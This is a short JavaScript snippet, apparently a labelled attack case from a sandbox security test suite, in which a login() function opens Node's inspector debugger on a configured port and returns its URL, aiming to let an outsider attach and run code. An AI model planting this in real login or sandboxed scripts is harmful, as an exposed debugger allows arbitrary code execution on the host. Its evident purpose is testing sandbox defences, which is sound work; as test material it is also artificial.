// attack: let a debugger listen for somebody outside
// needs: fs+net
// value: {"user_id":"attempted","url":null}
function login(email, password, callback) {
  const inspector = process.getBuiltinModule('inspector');
  try {
    inspector.open(Number(configuration.listen), '127.0.0.1', false);
  } catch {}
  callback(null, { user_id: 'attempted', url: inspector.url() ?? null });
}
